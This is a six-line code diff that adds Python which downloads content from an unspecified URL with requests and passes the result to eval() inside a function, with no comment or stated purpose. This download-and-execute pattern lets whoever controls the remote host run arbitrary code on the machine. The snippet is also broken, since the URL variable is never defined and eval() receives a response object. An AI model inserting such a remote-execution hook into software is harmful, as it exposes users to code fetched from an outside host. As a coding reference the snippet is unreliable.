@@ -1,0 +1,6 @@
+import requests
+
+g = requests.get(u)
+
+
+def f(): eval(g)
